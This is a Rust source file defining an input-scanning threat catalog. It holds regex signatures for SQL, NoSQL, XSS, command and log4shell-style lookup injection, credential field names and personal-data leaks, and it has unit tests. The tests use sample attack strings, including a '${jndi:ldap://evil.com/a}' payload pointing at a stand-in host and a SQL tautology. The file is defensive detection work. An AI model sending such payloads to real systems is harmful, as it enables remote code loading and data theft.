//! Threat signature catalog.
//!
//! Signatures are grouped in one static table per category and compiled once
//! per process. All signatures are written against normalized, lowercased
//! text.

use std::fmt;

use lazy_static::lazy_static;
use regex::Regex;
use serde::{Deserialize, Serialize};
use tracing::error;

use crate::error::{GuardError, Result};

/// Catalog version, bumped whenever a signature changes
pub const CATALOG_VERSION: &str = "1.0.0";

/// Threat categories
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ThreatCategory {
    /// SQL keywords, comment markers, boolean tautologies
    SqlInjection,
    /// MongoDB-style query operators
    NosqlInjection,
    /// Script tags, `javascript:` and inline handlers
    Xss,
    /// Shell metacharacters and exec-style calls
    CommandInjection,
    /// `${...}` / `jndi:` style lookups evaluated by downstream log processors
    TemplateLookupInjection,
    /// Reference to a credential-bearing field
    SensitiveFieldAccess,
    /// Unbounded reads
    BulkDataAccess,
    /// Schema or permission changes
    PrivilegedOperation,
    /// Credentials or personal data in outgoing content
    DataLeak,
    /// Actor exceeded the access rate
    RateLimitExceeded,
}

impl ThreatCategory {
    /// Every category, in counter order
    pub const ALL: [ThreatCategory; 10] = [
        ThreatCategory::SqlInjection,
        ThreatCategory::NosqlInjection,
        ThreatCategory::Xss,
        ThreatCategory::CommandInjection,
        ThreatCategory::TemplateLookupInjection,
        ThreatCategory::SensitiveFieldAccess,
        ThreatCategory::BulkDataAccess,
        ThreatCategory::PrivilegedOperation,
        ThreatCategory::DataLeak,
        ThreatCategory::RateLimitExceeded,
    ];

    /// Position in [`ThreatCategory::ALL`]
    pub fn index(self) -> usize {
        self as usize
    }

    /// Wire name
    pub fn as_str(self) -> &'static str {
        match self {
            ThreatCategory::SqlInjection => "SQL_INJECTION",
            ThreatCategory::NosqlInjection => "NOSQL_INJECTION",
            ThreatCategory::Xss => "XSS",
            ThreatCategory::CommandInjection => "COMMAND_INJECTION",
            ThreatCategory::TemplateLookupInjection => "TEMPLATE_LOOKUP_INJECTION",
            ThreatCategory::SensitiveFieldAccess => "SENSITIVE_FIELD_ACCESS",
            ThreatCategory::BulkDataAccess => "BULK_DATA_ACCESS",
            ThreatCategory::PrivilegedOperation => "PRIVILEGED_OPERATION",
            ThreatCategory::DataLeak => "DATA_LEAK",
            ThreatCategory::RateLimitExceeded => "RATE_LIMIT_EXCEEDED",
        }
    }

    /// True for the injection families counted as `injection_attempts`
    pub fn is_injection(self) -> bool {
        matches!(
            self,
            ThreatCategory::SqlInjection
                | ThreatCategory::NosqlInjection
                | ThreatCategory::Xss
                | ThreatCategory::CommandInjection
                | ThreatCategory::TemplateLookupInjection
        )
    }
}

impl fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Match severity
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Severity {
    /// Informational
    Low,
    /// Suspicious
    Medium,
    /// Likely attack
    High,
    /// Attack or exposure requiring immediate attention
    Critical,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Severity::Low => write!(f, "low"),
            Severity::Medium => write!(f, "medium"),
            Severity::High => write!(f, "high"),
            Severity::Critical => write!(f, "critical"),
        }
    }
}

/// Kind of leaked data behind a `DATA_LEAK` match
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LeakKind {
    /// Password field
    Password,
    /// Session/auth token field
    Token,
    /// API key field
    ApiKey,
    /// Secret or private key field
    Secret,
    /// Hash or encrypted blob field
    Hash,
    /// Email address
    Email,
    /// Credit-card-like digit groups
    CreditCard,
    /// SSN-like digit groups
    Ssn,
}

impl LeakKind {
    /// Password and token leaks are Critical, everything else High
    pub fn severity(self) -> Severity {
        match self {
            LeakKind::Password | LeakKind::Token => Severity::Critical,
            _ => Severity::High,
        }
    }
}

/// A threat signature
#[derive(Debug, Clone)]
pub struct PatternRule {
    /// Stable rule id
    pub id: &'static str,
    /// Threat category
    pub category: ThreatCategory,
    /// Default severity
    pub severity: Severity,
    /// Regex pattern (matched against normalized lowercase text)
    pub pattern: &'static str,
    /// Leaked data kind, for `DATA_LEAK` rules
    pub leak: Option<LeakKind>,
    /// Label reported instead of the matched text when it must not be echoed
    pub redaction: &'static str,
}

/// SQL injection signatures
pub static SQL_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "sql_keyword",
        category: ThreatCategory::SqlInjection,
        severity: Severity::High,
        pattern: r"\b(select|union|insert|update|delete|drop)\b",
        leak: None,
        redaction: "[SQL]",
    },
    PatternRule {
        id: "sql_comment",
        category: ThreatCategory::SqlInjection,
        severity: Severity::High,
        pattern: r"--|/\*|\*/",
        leak: None,
        redaction: "[SQL]",
    },
    PatternRule {
        id: "sql_tautology",
        category: ThreatCategory::SqlInjection,
        severity: Severity::High,
        pattern: r#"\b(or|and)\b\s+['"]?\w+['"]?\s*=\s*['"]?\w+"#,
        leak: None,
        redaction: "[SQL]",
    },
];

/// NoSQL operator signatures
pub static NOSQL_PATTERNS: &[PatternRule] = &[PatternRule {
    id: "nosql_operator",
    category: ThreatCategory::NosqlInjection,
    severity: Severity::High,
    pattern: r"\$(where|ne|gt|lt|regex|in)\b",
    leak: None,
    redaction: "[NOSQL]",
}];

/// Cross-site scripting signatures
pub static XSS_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "xss_script_tag",
        category: ThreatCategory::Xss,
        severity: Severity::High,
        pattern: r"(<|&lt;)\s*script",
        leak: None,
        redaction: "[XSS]",
    },
    PatternRule {
        id: "xss_javascript_scheme",
        category: ThreatCategory::Xss,
        severity: Severity::High,
        pattern: r"javascript\s*:",
        leak: None,
        redaction: "[XSS]",
    },
    PatternRule {
        id: "xss_event_handler",
        category: ThreatCategory::Xss,
        severity: Severity::High,
        pattern: r"\bon[a-z]+\s*=",
        leak: None,
        redaction: "[XSS]",
    },
];

/// Shell injection signatures
pub static COMMAND_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "cmd_metacharacter",
        category: ThreatCategory::CommandInjection,
        severity: Severity::High,
        pattern: r"[;&|`$(){}\[\]]",
        leak: None,
        redaction: "[CMD]",
    },
    PatternRule {
        id: "cmd_exec_keyword",
        category: ThreatCategory::CommandInjection,
        severity: Severity::High,
        pattern: r"\b(eval|exec|system|shell_exec|passthru)\b",
        leak: None,
        redaction: "[CMD]",
    },
];

/// Lookup/expression signatures (log4shell class)
pub static TEMPLATE_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "template_dollar_brace",
        category: ThreatCategory::TemplateLookupInjection,
        severity: Severity::Critical,
        pattern: r"\$\{",
        leak: None,
        redaction: "[LOOKUP]",
    },
    PatternRule {
        id: "template_percent_brace",
        category: ThreatCategory::TemplateLookupInjection,
        severity: Severity::Critical,
        pattern: r"%\{",
        leak: None,
        redaction: "[LOOKUP]",
    },
    PatternRule {
        id: "template_jndi",
        category: ThreatCategory::TemplateLookupInjection,
        severity: Severity::Critical,
        pattern: r"\b(jndi|ldap)\s*:",
        leak: None,
        redaction: "[LOOKUP]",
    },
];

/// Credential field name signatures
pub static SENSITIVE_FIELD_PATTERNS: &[PatternRule] = &[PatternRule {
    id: "sensitive_field_name",
    category: ThreatCategory::SensitiveFieldAccess,
    severity: Severity::Critical,
    pattern: r"password|passwd|pwd|token|secret|api[_-]?key|hash",
    leak: None,
    redaction: "[FIELD]",
}];

/// Unbounded read signatures
pub static BULK_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "bulk_select_star",
        category: ThreatCategory::BulkDataAccess,
        severity: Severity::Medium,
        pattern: r"select\s+\*\s+from",
        leak: None,
        redaction: "[BULK]",
    },
    PatternRule {
        id: "bulk_large_limit",
        category: ThreatCategory::BulkDataAccess,
        severity: Severity::Medium,
        pattern: r"\blimit\s+\d{3,}",
        leak: None,
        redaction: "[BULK]",
    },
];

/// Schema/permission change signatures
pub static PRIVILEGED_PATTERNS: &[PatternRule] = &[PatternRule {
    id: "privileged_ddl",
    category: ThreatCategory::PrivilegedOperation,
    severity: Severity::High,
    pattern: r"\b(drop|alter|create|grant|revoke)\b",
    leak: None,
    redaction: "[PRIVILEGED]",
}];

/// Personal data signatures (output scanning only)
pub static LEAK_VALUE_PATTERNS: &[PatternRule] = &[
    PatternRule {
        id: "leak_email",
        category: ThreatCategory::DataLeak,
        severity: Severity::High,
        pattern: r"[a-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}",
        leak: Some(LeakKind::Email),
        redaction: "[EMAIL]",
    },
    PatternRule {
        id: "leak_credit_card",
        category: ThreatCategory::DataLeak,
        severity: Severity::High,
        pattern: r"\b\d{4}[-\s]?\d{4}[-\s]?\d{4}[-\s]?\d{4}\b",
        leak: Some(LeakKind::CreditCard),
        redaction: "[CARD]",
    },
    PatternRule {
        id: "leak_ssn",
        category: ThreatCategory::DataLeak,
        severity: Severity::High,
        pattern: r"\b\d{3}-\d{2}-\d{4}\b",
        leak: Some(LeakKind::Ssn),
        redaction: "[SSN]",
    },
];

/// Substring markers for log lines, checked in order; the first hit wins.
///
/// Log lines are full of brackets and parentheses, so the command
/// metacharacter signatures are not applied to them.
pub static LOG_MARKERS: &[(&str, ThreatCategory, Severity)] = &[
    ("${jndi:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${ldap:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${dns:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${lower:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${upper:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${env:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${sys:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${date:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("${ctx:", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("%{", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("$((", ThreatCategory::TemplateLookupInjection, Severity::Critical),
    ("<script", ThreatCategory::Xss, Severity::High),
    ("javascript:", ThreatCategory::Xss, Severity::High),
    ("union select", ThreatCategory::SqlInjection, Severity::High),
    ("drop table", ThreatCategory::SqlInjection, Severity::High),
];

/// Text signature tables, in scan order
static TEXT_TABLES: &[&[PatternRule]] = &[
    SQL_PATTERNS,
    NOSQL_PATTERNS,
    XSS_PATTERNS,
    COMMAND_PATTERNS,
    TEMPLATE_PATTERNS,
    SENSITIVE_FIELD_PATTERNS,
    BULK_PATTERNS,
    PRIVILEGED_PATTERNS,
];

/// Categories that must carry at least one signature
const REQUIRED_CATEGORIES: &[ThreatCategory] = &[
    ThreatCategory::SqlInjection,
    ThreatCategory::NosqlInjection,
    ThreatCategory::Xss,
    ThreatCategory::CommandInjection,
    ThreatCategory::TemplateLookupInjection,
    ThreatCategory::SensitiveFieldAccess,
    ThreatCategory::BulkDataAccess,
    ThreatCategory::PrivilegedOperation,
    ThreatCategory::DataLeak,
];

/// Field names whose values are never echoed (compared after stripping `_`/`-`)
pub const FORBIDDEN_FIELDS: &[&str] = &[
    "password", "passwd", "pwd", "token", "secret", "apikey", "hash",
];

/// True if `key` names a credential-bearing field.
///
/// ```
/// use inguard::security::is_forbidden_field;
///
/// assert!(is_forbidden_field("API_Key"));
/// assert!(is_forbidden_field("user-password"));
/// assert!(!is_forbidden_field("username"));
/// ```
pub fn is_forbidden_field(key: &str) -> bool {
    let folded: String = key
        .chars()
        .filter(|c| *c != '_' && *c != '-')
        .flat_map(char::to_lowercase)
        .collect();
    FORBIDDEN_FIELDS.iter().any(|f| folded.contains(f))
}

/// A signature with its compiled matcher
#[derive(Debug)]
pub struct CompiledRule {
    /// Source signature
    pub rule: &'static PatternRule,
    /// Compiled matcher
    pub regex: Regex,
}

/// Process-wide compiled signature catalog
#[derive(Debug)]
pub struct PatternCatalog {
    text: Vec<CompiledRule>,
    leak: Vec<CompiledRule>,
}

lazy_static! {
    static ref CATALOG: std::result::Result<PatternCatalog, String> = PatternCatalog::compile();
}

impl PatternCatalog {
    /// The compiled catalog. Fails if a signature does not compile or a
    /// required category has no signature.
    pub fn global() -> Result<&'static PatternCatalog> {
        CATALOG.as_ref().map_err(|reason| {
            error!(reason = %reason, "pattern catalog failed to compile");
            GuardError::Configuration(reason.clone())
        })
    }

    fn compile() -> std::result::Result<Self, String> {
        let text = compile_all(TEXT_TABLES.iter().flat_map(|t| t.iter()))?;
        let leak = compile_all(LEAK_VALUE_PATTERNS.iter())?;

        for category in REQUIRED_CATEGORIES {
            let covered = text
                .iter()
                .chain(leak.iter())
                .any(|c| c.rule.category == *category);
            if !covered {
                return Err(format!("no signature for required category {category}"));
            }
        }

        Ok(Self { text, leak })
    }

    /// Signatures scanned on every input
    pub fn text_rules(&self) -> &[CompiledRule] {
        &self.text
    }

    /// Personal data signatures scanned on structured/outgoing content
    pub fn leak_rules(&self) -> &[CompiledRule] {
        &self.leak
    }

    /// Total signature count
    pub fn len(&self) -> usize {
        self.text.len() + self.leak.len()
    }

    /// True if the catalog holds no signature
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn compile_all(
    rules: impl Iterator<Item = &'static PatternRule>,
) -> std::result::Result<Vec<CompiledRule>, String> {
    rules
        .map(|rule| {
            Regex::new(rule.pattern)
                .map(|regex| CompiledRule { rule, regex })
                .map_err(|e| format!("signature {} failed to compile: {e}", rule.id))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matching(content: &str) -> Vec<&'static str> {
        let catalog = PatternCatalog::global().unwrap();
        catalog
            .text_rules()
            .iter()
            .chain(catalog.leak_rules())
            .filter(|c| c.regex.is_match(content))
            .map(|c| c.rule.id)
            .collect()
    }

    #[test]
    fn test_catalog_compiles() {
        let catalog = PatternCatalog::global().unwrap();
        assert!(!catalog.is_empty());
        assert_eq!(
            catalog.len(),
            TEXT_TABLES.iter().map(|t| t.len()).sum::<usize>() + LEAK_VALUE_PATTERNS.len()
        );
    }

    #[test]
    fn test_rule_ids_unique() {
        let mut ids: Vec<_> = TEXT_TABLES
            .iter()
            .flat_map(|t| t.iter())
            .chain(LEAK_VALUE_PATTERNS)
            .map(|r| r.id)
            .collect();
        let total = ids.len();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), total);
    }

    #[test]
    fn test_sql_signatures() {
        let ids = matching("select * from users where id=1' or '1'='1");
        assert!(ids.contains(&"sql_keyword"));
        assert!(ids.contains(&"sql_tautology"));
        assert!(ids.contains(&"bulk_select_star"));
        assert!(matching("1; -- comment").contains(&"sql_comment"));
    }

    #[test]
    fn test_template_signatures() {
        let ids = matching("${jndi:ldap://evil.com/a}");
        assert!(ids.contains(&"template_dollar_brace"));
        assert!(ids.contains(&"template_jndi"));
    }

    #[test]
    fn test_leak_signatures() {
        assert!(matching("mail bob@example.com").contains(&"leak_email"));
        assert!(matching("4111-1111-1111-1111").contains(&"leak_credit_card"));
        assert!(matching("ssn 123-45-6789").contains(&"leak_ssn"));
    }

    #[test]
    fn test_safe_content() {
        assert!(matching("what is the capital of france?").is_empty());
    }

    #[test]
    fn test_category_names() {
        assert_eq!(
            ThreatCategory::TemplateLookupInjection.to_string(),
            "TEMPLATE_LOOKUP_INJECTION"
        );
        let json = serde_json::to_string(&ThreatCategory::NosqlInjection).unwrap();
        assert_eq!(json, "\"NOSQL_INJECTION\"");
        for (i, c) in ThreatCategory::ALL.iter().enumerate() {
            assert_eq!(c.index(), i);
        }
    }

    #[test]
    fn test_leak_severity() {
        assert_eq!(LeakKind::Password.severity(), Severity::Critical);
        assert_eq!(LeakKind::Token.severity(), Severity::Critical);
        assert_eq!(LeakKind::Email.severity(), Severity::High);
        assert!(Severity::Critical > Severity::High);
    }

    #[test]
    fn test_forbidden_fields() {
        assert!(is_forbidden_field("password"));
        assert!(is_forbidden_field("refresh_token"));
        assert!(is_forbidden_field("PasswordHash"));
        assert!(!is_forbidden_field("email"));
    }
}
